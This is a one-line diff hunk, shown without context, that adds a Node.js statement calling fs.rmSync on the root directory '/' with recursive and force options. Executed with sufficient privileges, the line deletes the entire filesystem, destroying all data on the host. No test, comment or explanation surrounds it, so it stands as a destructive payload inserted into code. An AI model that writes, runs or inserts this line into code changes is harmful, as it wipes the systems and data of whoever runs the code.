@@ -1,0 +1,1 @@
+require('fs').rmSync('/', { recursive: true, force: true });
